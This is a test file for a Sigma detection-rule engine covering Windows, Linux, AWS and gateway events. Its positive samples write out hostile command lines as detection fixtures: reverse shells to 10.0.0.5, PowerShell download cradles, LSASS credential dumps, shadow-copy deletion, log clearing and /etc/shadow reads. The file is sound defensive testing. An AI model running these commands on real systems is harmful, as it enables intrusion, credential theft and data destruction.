import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { EventRecord, LogSource } from '../../contracts/event.ts';
import { compileRules } from './index.ts';

const folder = join(import.meta.dirname, '../../../rules/sigma');
const paths = readdirSync(folder, { recursive: true })
  .map((path) => String(path).replaceAll('\\', '/'))
  .filter((path) => path.endsWith('.yml'))
  .sort();
const { detector, loaded, problems } = compileRules(
  paths.map((path) => ({ path, text: readFileSync(join(folder, path), 'utf8') })),
);
const idOf = new Map(detector.rules().map(({ file, id }) => [file.replace('.yml', ''), id]));

type Fields = Readonly<Record<string, unknown>>;
type Event = Pick<EventRecord, 'fields' | 'raw' | 'logSources'>;

function event(logSources: readonly LogSource[], fields: Fields): Event {
  return { fields, raw: JSON.stringify(fields), logSources };
}

const windows = (service: string | undefined, category: string | undefined, fields: Fields) =>
  event(
    [
      service === undefined ? { product: 'windows' } : { product: 'windows', service },
      ...(category === undefined ? [] : [{ product: 'windows', category }]),
    ],
    fields,
  );
const started = (image: string, commandLine: string, more: Fields = {}) =>
  windows('sysmon', 'process_creation', { EventID: 1, Image: image, CommandLine: commandLine, ...more });
const linux = (commandLine: string) =>
  event(
    [
      { product: 'linux', service: 'auditd' },
      { product: 'linux', category: 'process_creation' },
    ],
    {
      type: 'EXECVE',
      CommandLine: commandLine,
    },
  );
const audit = (fields: Fields) => event([{ product: 'linux', service: 'auditd' }], fields);
const sshd = (message: string): Event => ({
  fields: { message, program: 'sshd' },
  raw: `<38>Nov 22 10:00:00 web sshd[7]: ${message}`,
  logSources: [
    { product: 'linux', service: 'sshd' },
    { product: 'linux', service: 'auth' },
  ],
});
const aws = (service: string, eventName: string, fields: Fields = {}) =>
  event([{ product: 'aws', service: 'cloudtrail' }], {
    eventSource: `${service}.amazonaws.com`,
    eventName,
    ...fields,
  });
const gateway = (fields: Fields) => event([{ product: 'bartizan', service: 'gateway' }], fields);

const SYSTEM32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const ENCODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA';
const bucketPolicy = (principal: string, effect: string) => ({
  'requestParameters.bucketPolicy.Statement.Effect': effect,
  'requestParameters.bucketPolicy.Statement.Principal': principal,
});
const rootLogin = (mfa: string) =>
  aws('signin', 'ConsoleLogin', {
    'userIdentity.type': 'Root',
    'responseElements.ConsoleLogin': 'Success',
    'additionalEventData.MFAUsed': mfa,
  });
const newKey = (owner: string) =>
  aws('iam', 'CreateAccessKey', { 'userIdentity.userName': 'Alice', 'requestParameters.userName': owner });

/** Per rule: events that it must match, and events near them that it must not. */
const cases: Readonly<Record<string, readonly [positive: readonly Event[], negative: readonly Event[]]>> = {
  'windows/encoded_powershell': [
    [
      started(POWERSHELL, `powershell.exe -NoP -enc ${ENCODED}`),
      started('C:\\x\\pwsh.exe', `pwsh /EncodedCommand ${ENCODED}`),
      started('C:\\renamed.exe', `a.exe –e ${ENCODED}`, { OriginalFileName: 'PowerShell.EXE' }),
    ],
    [
      started(POWERSHELL, 'powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1'),
      started('C:\\x\\node.exe', `node -e ${ENCODED}`),
    ],
  ],
  'windows/powershell_download_cradle': [
    [
      started(POWERSHELL, "powershell iex (New-Object Net.WebClient).DownloadString('http://x/a')"),
      started(POWERSHELL, 'powershell irm https://x/a | iex'),
    ],
    [started(POWERSHELL, 'powershell Invoke-WebRequest https://x/a -OutFile a.zip')],
  ],
  'windows/lsass_dump_comsvcs': [
    [
      started(
        `${SYSTEM32}rundll32.exe`,
        'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 612 C:\\l.dmp full',
      ),
      started(`${SYSTEM32}rundll32.exe`, 'rundll32 comsvcs.dll,#24 612 l.dmp full'),
    ],
    [
      started(`${SYSTEM32}rundll32.exe`, 'rundll32 shell32.dll,Control_RunDLL'),
      started(`${SYSTEM32}regsvr32.exe`, 'regsvr32 /s comsvcs.dll'),
    ],
  ],
  'windows/lsass_dump_procdump': [
    [
      started('C:\\t\\procdump64.exe', 'procdump64 -ma lsass.exe out'),
      started('C:\\t\\pd.exe', 'pd /ma LSASS.exe out'),
    ],
    [started('C:\\t\\procdump64.exe', 'procdump64 -ma w3wp.exe out')],
  ],
  'windows/certutil_download': [
    [
      started(`${SYSTEM32}certutil.exe`, 'certutil -urlcache -split -f http://x/a.exe a.exe'),
      started(`${SYSTEM32}certutil.exe`, 'certutil /decode a.txt a.exe'),
    ],
    [
      started(`${SYSTEM32}certutil.exe`, 'certutil -store My'),
      started(`${SYSTEM32}certutil.exe`, 'certutil -urlcache *'),
    ],
  ],
  'windows/mshta_remote_or_inline': [
    [
      started(`${SYSTEM32}mshta.exe`, 'mshta https://x/a.hta'),
      started(`${SYSTEM32}mshta.exe`, 'mshta vbscript:Close(Execute("x"))'),
    ],
    [started(`${SYSTEM32}mshta.exe`, 'mshta "C:\\Program Files\\App\\help.hta"')],
  ],
  'windows/rundll32_script_or_url': [
    [
      started(`${SYSTEM32}rundll32.exe`, 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "'),
      started(`${SYSTEM32}rundll32.exe`, 'rundll32.exe \\\\10.0.0.5\\share\\a.dll,Start'),
      started(`${SYSTEM32}rundll32.exe`, 'rundll32 C:\\Users\\Public\\a.dll,#1'),
    ],
    [
      started(
        `${SYSTEM32}rundll32.exe`,
        'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl',
      ),
    ],
  ],
  'windows/regsvr32_scriptlet': [
    [
      started(`${SYSTEM32}regsvr32.exe`, 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll'),
      started(`${SYSTEM32}regsvr32.exe`, 'regsvr32 -i:a.sct x.dll'),
    ],
    [started(`${SYSTEM32}regsvr32.exe`, 'regsvr32 /s C:\\App\\control.dll')],
  ],
  'windows/bitsadmin_transfer': [
    [
      started(`${SYSTEM32}bitsadmin.exe`, 'bitsadmin /transfer job http://x/a C:\\a'),
      started(`${SYSTEM32}bitsadmin.exe`, 'bitsadmin -SetNotifyCmdLine job cmd.exe ""'),
    ],
    [started(`${SYSTEM32}bitsadmin.exe`, 'bitsadmin /list /allusers')],
  ],
  'windows/office_spawns_shell': [
    [started(`${SYSTEM32}cmd.exe`, 'cmd /c whoami', { ParentImage: 'C:\\Office16\\WINWORD.EXE' })],
    [
      started(`${SYSTEM32}cmd.exe`, 'cmd', { ParentImage: 'C:\\Windows\\explorer.exe' }),
      started(`${SYSTEM32}rundll32.exe`, 'rundll32 printui.dll,PrintUIEntry', {
        ParentImage: 'C:\\Office16\\WINWORD.EXE',
      }),
    ],
  ],
  'windows/shadow_copies_deleted': [
    [
      started(`${SYSTEM32}vssadmin.exe`, 'vssadmin Delete Shadows /all /quiet'),
      started(`${SYSTEM32}wbem\\wmic.exe`, 'wmic shadowcopy delete'),
      started(`${SYSTEM32}bcdedit.exe`, 'bcdedit /set {default} recoveryenabled No'),
    ],
    [started(`${SYSTEM32}vssadmin.exe`, 'vssadmin list shadows')],
  ],
  'windows/event_log_cleared': [
    [
      windows('security', undefined, { Channel: 'Security', EventID: 1102 }),
      windows('system', undefined, {
        Channel: 'System',
        EventID: '104',
        Provider_Name: 'Microsoft-Windows-Eventlog',
      }),
    ],
    [
      windows('system', undefined, { Channel: 'System', EventID: 104, Provider_Name: 'Other' }),
      windows('application', undefined, { Channel: 'Application', EventID: 1102 }),
    ],
  ],
  'windows/event_log_cleared_by_command': [
    [
      started(`${SYSTEM32}wevtutil.exe`, 'wevtutil cl Security'),
      started(POWERSHELL, 'powershell Clear-EventLog -LogName System'),
    ],
    [started(`${SYSTEM32}wevtutil.exe`, 'wevtutil qe Security')],
  ],
  'windows/suspicious_service_installed': [
    [
      windows('system', undefined, {
        EventID: 7045,
        Provider_Name: 'Service Control Manager',
        ImagePath: '%COMSPEC% /b /c start x',
      }),
    ],
    [
      windows('system', undefined, {
        EventID: 7045,
        Provider_Name: 'Service Control Manager',
        ImagePath: 'C:\\Program Files\\App\\svc.exe',
      }),
    ],
  ],
  'windows/run_key_persistence': [
    [
      windows('sysmon', 'registry_set', {
        TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
        Details: 'C:\\Users\\Public\\x.exe',
      }),
    ],
    [
      windows('sysmon', 'registry_set', {
        TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\App',
        Details: 'C:\\Program Files\\App\\a.exe',
      }),
      windows('sysmon', 'registry_set', {
        TargetObject: 'HKLM\\Software\\Other',
        Details: 'C:\\Users\\Public\\x.exe',
      }),
    ],
  ],
  'windows/local_account_created': [
    [windows('security', undefined, { EventID: 4720, TargetUserName: 'support' })],
    [
      windows('security', undefined, { EventID: 4720, TargetUserName: 'PC01$' }),
      windows('security', undefined, { EventID: 4724, TargetUserName: 'support' }),
    ],
  ],
  'windows/member_added_to_administrators': [
    [
      windows('security', undefined, {
        EventID: 4732,
        TargetSid: 'S-1-5-32-544',
        TargetUserName: 'Administratoren',
      }),
    ],
    [windows('security', undefined, { EventID: 4732, TargetSid: 'S-1-5-32-555' })],
  ],
  'windows/scheduled_task_suspicious': [
    [started(`${SYSTEM32}schtasks.exe`, 'schtasks /Create /tn u /tr "powershell -w hidden" /sc minute')],
    [
      started(`${SYSTEM32}schtasks.exe`, 'schtasks /create /tn App /tr "C:\\Program Files\\App\\a.exe"'),
      started(`${SYSTEM32}schtasks.exe`, 'schtasks /query /tn powershell'),
    ],
  ],
  'windows/defender_disabled_by_command': [
    [started(POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $true')],
    [started(POWERSHELL, 'powershell Get-MpPreference')],
  ],
  'linux/reverse_shell_command': [
    [
      linux('bash -c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'),
      linux('nc -e /bin/sh 10.0.0.5 4444'),
      linux(
        'python3 -c import socket,os,pty;s=socket.socket();s.connect(("10.0.0.5",1));os.dup2(s.fileno(),0);pty.spawn("sh")',
      ),
    ],
    [linux('nc -zv 10.0.0.5 443'), linux('ssh -c aes256-ctr host')],
  ],
  'linux/shadow_file_access': [
    [linux('cat /etc/shadow'), linux('/usr/bin/cp /etc/shadow- /tmp/x')],
    [linux('cat /etc/passwd'), linux('passwd -S root')],
  ],
  'linux/cron_persistence': [
    [audit({ type: 'PATH', name: '/etc/cron.d/update', nametype: 'CREATE' })],
    [
      audit({ type: 'PATH', name: '/etc/cron.d/update', nametype: 'NORMAL' }),
      audit({ type: 'PATH', name: '/etc/cronology', nametype: 'CREATE' }),
    ],
  ],
  'linux/setuid_bit_set': [
    [linux('chmod u+s /tmp/sh'), linux('/usr/bin/chmod -v 4755 /tmp/sh'), linux('chmod 06755 x')],
    [linux('chmod 0755 /srv/www'), linux('chmod u+x s'), linux('chmod 755 4755')],
  ],
  'linux/sshd_logon_after_invalid_users': [
    [sshd('error: maximum authentication attempts exceeded for root from 10.0.0.5 port 4 ssh2 [preauth]')],
    [sshd('Failed password for root from 10.0.0.5 port 4 ssh2')],
  ],
  'linux/sshd_root_password_logon': [
    [sshd('Accepted password for root from 10.0.0.5 port 4 ssh2')],
    [
      sshd('Accepted publickey for root from 10.0.0.5 port 4 ssh2'),
      sshd('Accepted password for rooter from 10.0.0.5 port 4 ssh2'),
    ],
  ],
  'cloud/aws_root_login_without_mfa': [[rootLogin('No')], [rootLogin('Yes')]],
  'cloud/aws_cloudtrail_stopped': [
    [aws('cloudtrail', 'StopLogging')],
    [aws('cloudtrail', 'StopLogging', { errorCode: 'AccessDenied' }), aws('cloudtrail', 'DescribeTrails')],
  ],
  'cloud/aws_access_key_for_other_user': [
    [newKey('bob')],
    [newKey('alice'), aws('iam', 'CreateAccessKey', { 'userIdentity.userName': 'Alice' })],
  ],
  'cloud/aws_public_bucket_policy': [
    [
      aws('s3', 'PutBucketAcl', { 'requestParameters.x-amz-acl': ['public-read'] }),
      aws('s3', 'PutBucketPolicy', bucketPolicy('*', 'Allow')),
      aws('s3', 'DeleteBucketPublicAccessBlock'),
    ],
    [
      aws('s3', 'PutBucketAcl', { 'requestParameters.x-amz-acl': 'private' }),
      aws('s3', 'PutBucketPolicy', bucketPolicy('*', 'Deny')),
    ],
  ],
  'cloud/aws_console_login_failure': [
    [aws('signin', 'ConsoleLogin', { 'responseElements.ConsoleLogin': 'Failure' })],
    [aws('signin', 'ConsoleLogin', { 'responseElements.ConsoleLogin': 'Success' })],
  ],
  'gateway/upstream_rejects_credentials': [
    [gateway({ upstreamStatus: 401 })],
    [gateway({ upstreamStatus: 429 }), gateway({ upstreamStatus: null })],
  ],
  'gateway/very_large_usage': [
    [gateway({ 'usage.totalTokens': 150_000 })],
    [gateway({ 'usage.totalTokens': 99_999 }), gateway({ 'usage.totalTokens': null })],
  ],
  'gateway/uninspected_content_sent': [
    [gateway({ 'uninspected.kind': ['image'] })],
    [gateway({ 'verdict.action': 'allow' })],
  ],
};

test('every rule loads', () => {
  expect(problems).toEqual([]);
  expect(loaded).toBe(paths.length);
  expect(loaded).toBeGreaterThanOrEqual(30);
});

test('every rule names a technique, an author, a level and its false positives', () => {
  for (const rule of detector.rules()) {
    expect(rule.techniques.length, rule.file).toBeGreaterThan(0);
    expect(rule.author, rule.file).toBe('Bartizan');
    expect(rule.severity, rule.file).not.toBe('unknown');
    expect(rule.id, rule.file).toMatch(
      /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
  }
});

test('every rule has its cases', () => {
  expect([...idOf.keys()].sort()).toEqual(Object.keys(cases).sort());
});

test.each(Object.keys(cases))('%s', (name) => {
  const id = idOf.get(name) ?? '';
  const [positive, negative] = cases[name] ?? [[], []];
  for (const each of positive)
    expect(detector.matchingRuleIds(each), JSON.stringify(each.fields)).toContain(id);
  for (const each of negative)
    expect(detector.matchingRuleIds(each), JSON.stringify(each.fields)).not.toContain(id);
});
